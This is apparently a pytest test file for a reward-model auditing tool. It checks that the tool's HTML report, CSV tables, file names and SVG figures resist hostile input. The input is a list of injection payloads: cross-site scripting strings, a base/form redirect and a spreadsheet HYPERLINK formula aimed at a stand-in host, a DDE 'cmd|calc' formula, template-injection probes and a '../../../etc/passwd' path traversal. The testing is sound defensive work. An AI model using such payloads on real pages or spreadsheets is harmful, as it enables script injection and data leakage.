"""An audit of data made to attack who reads its report: the page, the tables, the figures."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from browser import browse, needs_browser
from figure_samples import HOSTILE

import rmaudit as rma
from rmaudit.report.document import Report

ATTACKS = [
    HOSTILE,
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=1">',
    "</style></script><script>document.title='owned'</script>",
    '<svg onload="document.title=\'owned\'"><use href="//x.example/#a"></svg>',
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<a href="javascript:document.title=1">read more</a>',
    '<noscript><p title="</noscript><img src=x onerror=document.title=1>">',
    "--><base href=//x.example><form action=//x.example><meta http-equiv=refresh content=0>",
    "]]>{{ 7*7 }}{% for x in range(9) %}${7*7}",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "\t=1+1",
    " @SUM(1+1)*cmd|' /C calc'!A0",
    "../../../etc/passwd",
]
# The page in a frame of a page that may look into it, after all that could run has run.
COUNT = """<!doctype html><body><iframe src="report.html"></iframe><p id="answer">none</p><script>
addEventListener("load", () => setTimeout(() => {
  const page = document.querySelector("iframe").contentDocument;
  const all = [...page.querySelectorAll("*")];
  const loads = all.filter((e) => ["img", "iframe", "object", "embed", "base", "form", "link",
    "audio", "video", "foreignobject", "noscript"].includes(e.localName.toLowerCase()));
  const named = all.flatMap((e) => [...e.attributes]);
  const handlers = named.filter((a) => a.name.startsWith("on"));
  const links = named.filter((a) => ["src", "href", "xlink:href"].includes(a.name)
    && !a.value.startsWith("#") && !a.value.startsWith("https://arxiv.org/abs/")
    && a.value !== "samples.html");
  document.getElementById("answer").textContent = JSON.stringify({
    scripts: page.querySelectorAll("script").length, loads: loads.length,
    handlers: handlers.length, links: links.length, title: page.title,
    words: page.querySelector("main").textContent,
  });
}, 200));
</script>"""


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        {
            "prompt": f"{ATTACKS[i % len(ATTACKS)]} {i}",
            "chosen": ATTACKS[(i + 1) % len(ATTACKS)] * (1 + i % 3),
            "rejected": ATTACKS[(i + 5) % len(ATTACKS)],
            "subset": ATTACKS[i % len(ATTACKS)],
            "family": ATTACKS[i % len(ATTACKS)],
            "style": ATTACKS[(i + i // 14) % len(ATTACKS)],
        }
        for i in range(4 * len(ATTACKS))
    ]
    data = folder / "<img src=x onerror=document.title=1>.jsonl"
    data.write_text("".join(json.dumps(row) + "\n" for row in rows) + ATTACKS[1] + "\n")
    report = rma.audit(
        _model(),
        data,
        feedback=data,
        deployment=[{"prompt": attack, "family": attack} for attack in ATTACKS * 4],
        probe_paths=[_suite(folder / "<b>probes")],
        resamples=100,
        search_texts=20,
        cache=False,
    )
    report.save(folder / "report")
    (folder / "report" / "count.html").write_text(COUNT)
    return Report.load(folder / "report")


def _model() -> Callable[[Sequence[tuple[Any, str]]], list[float]]:
    def reward(pairs: Sequence[tuple[Any, str]]) -> list[float]:
        return [len(output) / 100 + ("=" in output) for _, output in pairs]

    reward.__qualname__ = reward.__name__ = "<script>document.title='owned'</script>"
    return reward


def _suite(folder: Path) -> Path:
    """A suite whose every text is an attack."""
    folder.mkdir()
    lines = {name: json.dumps(ATTACKS[1]) for name in ("title", "question", "licence")}
    said = "".join(f"{name}: {line}\n" for name, line in lines.items())
    (folder / "suite.yaml").write_text(
        f"schema_version: 1\nname: mine\nversion: 1\nkind: contrast\n{said}"
        f"sources: [{lines['title']}]\nitems: items.jsonl\ncontrasts:\n"
        f"  - {{name: tone, meaning: {lines['title']}, expected: higher}}\n"
    )
    items = [
        {"probe": "tone", "item": f"i{i}", "prompt": attack, "better": attack, "worse": "no"}
        for i, attack in enumerate(ATTACKS)
    ]
    (folder / "items.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items))
    return folder


def test_the_audit_ran_and_shows_what_attacks(report: Report) -> None:
    ran = {name for name, audit in report.audits.items() if audit.status == "ok"}
    assert {"data", "preference", "length", "style", "coverage", "robustness"} <= ran
    assert not report.failed
    assert {subset for m in report.metrics() if (subset := m.slice.get("subset"))} >= set(ATTACKS)
    assert report.record.inputs["eval"].rows_set_aside == 1


@needs_browser
def test_a_browser_runs_one_script_and_loads_nothing(report: Report) -> None:
    assert report.folder is not None
    dom, console = browse(report.folder, "count.html", "--dump-dom", "--virtual-time-budget=5000")
    assert console == []
    shown = dom.partition('id="answer">')[2].partition("</p>")[0]
    for entity, sign in (("&lt;", "<"), ("&gt;", ">"), ("&nbsp;", "\xa0"), ("&amp;", "&")):
        shown = shown.replace(entity, sign)
    answer = json.loads(shown)
    words, title = answer.pop("words"), answer.pop("title")
    assert answer == {"scripts": 1, "loads": 0, "handlers": 0, "links": 0}
    assert title.startswith("Audit of ")
    for attack in (ATTACKS[1], ATTACKS[4], "<img src=x onerror=document.title=1>.jsonl"):
        assert attack in words


def test_no_cell_of_a_table_is_a_formula(report: Report) -> None:
    assert report.folder is not None
    tables = list((report.folder / "tables").iterdir())
    cells = []
    for table in tables:
        with table.open(newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    texts = [cell for cell in cells if not re.fullmatch(r"-?[\d.e+-]+|", cell)]
    assert not [text for text in texts if text.lstrip().startswith(("=", "+", "-", "@"))]
    assert {"'" + attack for attack in ATTACKS if "1+1" in attack} <= set(texts)


def test_files_stay_in_the_folder_under_plain_names(report: Report) -> None:
    assert report.folder is not None
    assert {path.name for path in report.folder.parent.iterdir()} == {
        "report", "<b>probes", "<img src=x onerror=document.title=1>.jsonl",
    }  # fmt: skip
    for path in report.folder.rglob("*"):
        if "profile-" not in str(path):
            assert re.fullmatch(r"[A-Za-z0-9_.-]+", path.name), path


def test_figures_hold_no_script(report: Report) -> None:
    assert report.folder is not None
    figures = list((report.folder / "figures").glob("*.svg"))
    assert len(figures) > 5
    for figure in figures:
        for element in ET.fromstring(figure.read_text()).iter():
            assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "image", "a")
            for name, value in element.attrib.items():
                assert not name.startswith("on")
                assert not name.endswith("href") or value.startswith("#")
